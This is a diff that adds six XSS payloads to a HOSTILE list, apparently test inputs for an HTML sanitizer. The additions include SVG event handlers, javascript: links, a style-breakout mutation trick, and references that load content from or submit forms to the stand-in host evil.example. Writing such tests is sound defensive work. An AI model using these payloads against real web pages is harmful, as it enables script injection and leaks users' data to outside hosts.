@@ -54,6 +54,12 @@ HOSTILE = [
     "<!--[if IE]><script>alert(1)</script><![endif]-->",
     "<template><script>alert(1)</script></template>",
     '<details ontoggle=alert(1) open="">x</details>',
+    '<svg><use href="https://evil.example/x.svg#a"></use><image href="https://evil.example/i"/></svg>',
+    "<svg><foreignObject><p onclick=alert(1)>x</p></foreignObject></svg>",
+    "<svg><style>@import url(https://evil.example/x.css)</style><a href='javascript:alert(1)'>x</a></svg>",
+    "<svg></p><style><a id='</style><img src=x onerror=alert(1)>'>",
+    '<svg><animate onbegin=alert(1) attributeName=x dur=1s></animate><set to="x"></set></svg>',
+    '<input type="image" src="https://evil.example/i"><input type=submit formaction="//evil.example">',
 ]
 
 
